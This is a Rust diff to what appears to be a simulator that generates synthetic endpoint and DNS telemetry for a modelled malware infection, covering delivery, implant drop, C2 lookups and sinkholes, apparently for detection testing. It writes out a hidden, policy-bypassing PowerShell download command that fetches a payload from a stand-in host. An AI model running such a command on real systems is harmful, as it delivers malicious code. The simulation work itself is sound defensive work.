@@ -5,10 +5,12 @@
 
 use std::sync::Arc;
 
+mod c2;
+
 use super::plan::Plan;
 use crate::record::Record;
 use crate::scenario::{Delivery, Drop, Hollow, InfectionParams, Launch};
-use crate::shapes::{answer, basename, dirname, Answer, Host, Meta, Proc, Spec, Task, DNS_SUFFIX};
+use crate::shapes::{basename, dirname, Host, Meta, Proc, Spec, Task, PIN};
 use crate::stream::Activity;
 
 const OUTLOOK: &str = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE";
@@ -43,8 +45,9 @@ pub struct Infection {
     what: Next,
     c2: Option<Arc<Proc>>,
     host_index: usize,
-    /// Per C2 name: (cache expiry, cached answer was NXDOMAIN).
-    cache: Vec<(i64, bool)>,
+    /// Per C2 name: (cache expiry, the cached answer's address; `None`:
+    /// NXDOMAIN).
+    cache: Vec<(i64, Option<String>)>,
     next_reboot: Option<i64>,
     jitter: f64,
     scenario_id: String,
@@ -72,7 +75,7 @@ impl Infection {
             .replace("%USERNAME%", &host.id.user)
             .replace("%PROGRAMDATA%", r"C:\ProgramData")
             .replace("%GUID%", &guid_dir);
-        let cache = vec![(i64::MIN, false); p.c2_hosts.len()];
+        let cache = vec![(i64::MIN, None); p.c2_hosts.len()];
         let task = implant_task(&p.task_name, &implant_path, &p.implant_args);
         Infection {
             end: plan.end,
@@ -118,8 +121,12 @@ impl Infection {
         self.implant_path.to_ascii_lowercase().ends_with(".dll")
     }
 
-    /// The hash key of the implant file (the same implant on every host).
+    /// The hash key of the implant file (the same implant on every host; its
+    /// pinned digests, when the scenario gives them).
     fn implant_key(&self) -> String {
+        if let Some((sha256, sha1, md5)) = &self.p.implant_hashes {
+            return format!("{PIN}{sha256}:{sha1}:{md5}");
+        }
         format!(
             "implant:{}:{}",
             self.scenario_id,
@@ -227,13 +234,18 @@ impl Infection {
                 t += self.gap() * 5;
                 let stage = "cdn.filedrop-share.net";
                 let blob = self.host.rng.hex(10);
+                let url = self
+                    .p
+                    .download_url
+                    .clone()
+                    .unwrap_or_else(|| format!("https://{stage}/d/{blob}.bin"));
                 let ps = self.host.spawn(
                     t,
                     &word,
                     Spec::new(
                         POWERSHELL,
                         &format!(
-                            r#"powershell.exe -NoP -W Hidden -Exec Bypass -C "iwr -UseBasicParsing https://{stage}/d/{blob}.bin -OutFile '{}'""#,
+                            r#"powershell.exe -NoP -W Hidden -Exec Bypass -C "iwr -UseBasicParsing {url} -OutFile '{}'""#,
                             self.implant_path
                         ),
                     ),
@@ -241,16 +253,7 @@ impl Infection {
                     out,
                 );
                 t += self.gap();
-                self.host.lookup(
-                    t,
-                    Some(&ps),
-                    stage,
-                    "A",
-                    &answer(stage, "A", false),
-                    true,
-                    "stage-download",
-                    out,
-                );
+                self.download(t, &ps, &url, out);
                 ps
             }
             Delivery::Msi => {
@@ -280,6 +283,12 @@ impl Infection {
     /// as a temporary file renamed into place).
     fn drop_implant(&mut self, mut t: i64, dropper: &Arc<Proc>, out: &mut Vec<Record>) -> i64 {
         t += self.gap();
+        if self.p.delivery != Delivery::Powershell {
+            if let Some(url) = self.p.download_url.clone() {
+                self.download(t, dropper, &url, out);
+                t += self.gap();
+            }
+        }
         let implant_path = self.implant_path.clone();
         let key = self.implant_key();
         match self.p.drop {
@@ -401,7 +410,7 @@ impl Infection {
         self.c2 = Some(c2);
         self.host_index = 0;
         for c in &mut self.cache {
-            *c = (i64::MIN, false);
+            *c = (i64::MIN, None);
         }
         let first_connect = t + self.secs(self.p.connect_delay_seconds) + 1;
         self.schedule(first_connect);
@@ -422,71 +431,6 @@ impl Infection {
                 self.what = Next::Connect;
             }
         }
-    }
-
-    fn connect(&mut self, t: i64, out: &mut Vec<Record>) {
-        let n = self.p.c2_hosts.len().max(1);
-        let i = self.host_index % n;
-        let configured = self.p.c2_hosts[i].clone();
-        // `%RAND%` asks a fresh random label each time: never in the cache.
-        let random = configured.contains(RAND);
-        let (expiry, cached_nx) = self.cache[i];
-        let nxdomain = if !random && t < expiry {
-            cached_nx
-        } else {
-            let name = if random {
-                let len = self.host.rng.range(10, 16) as usize;
-                configured.replace(RAND, &self.host.rng.label(len))
-            } else {
-                configured
-            };
-            let nx = self.host.rng.chance(self.p.nxdomain_share);
-            let ans: Answer = match &self.p.sinkhole {
-                Some(ip) if !nx => Answer {
-                    cname: None,
-                    ips: vec![ip.clone()],
-                    nxdomain: false,
-                },
-                _ => answer(&name, "A", nx),
-            };
-            let c2 = self.c2.clone();
-            self.host
-                .lookup(t, c2.as_deref(), &name, "A", &ans, true, "c2-lookup", out);
-            if nx && !name.ends_with('.') {
-                // The Windows resolver's suffix search: after the NXDOMAIN it
-                // asks again with the primary DNS suffix appended, and the
-                // corporate server (authoritative for it) says NXDOMAIN too.
-                // Only the server logs it; the process asked for one name.
-                let retry = format!("{name}.{DNS_SUFFIX}");
-                let at = t + self.host.rng.range(3, 40);
-                self.host.server_lookup(
-                    at,
-                    &retry,
-                    "A",
-                    &answer(&retry, "A", true),
-                    "suffix-search",
-                    out,
-                );
-            }
-            self.cache[i] = (t + (self.p.ttl_seconds * 1000.0) as i64, nx);
-            nx
-        };
-        let reconnect =
-            self.secs(self.p.restart_delay_seconds) + self.secs(self.p.connect_delay_seconds) + 1;
-        // A sinkhole answers, but no C2 listens there.
-        let up = !nxdomain && self.p.sinkhole.is_none() && self.host.rng.chance(self.p.c2_up);
-        let next = if up {
-            // Connected: keep-alives until the session drops.
-            let mean = self.p.session_minutes * 60.0 / self.p.keepalive_seconds;
-            let beats = 1.0 + self.host.rng.exp(mean).floor();
-            let session = (beats * self.p.keepalive_seconds * 1000.0).min(9.0e15) as i64;
-            t + session + reconnect
-        } else {
-            // Refused or timed out: try the next host.
-            self.host_index = (i + 1) % n;
-            t + self.host.rng.range(300, 21_000) + reconnect
-        };
-        self.schedule(next);
     }
 
     fn relaunch(&mut self, t: i64, out: &mut Vec<Record>) {
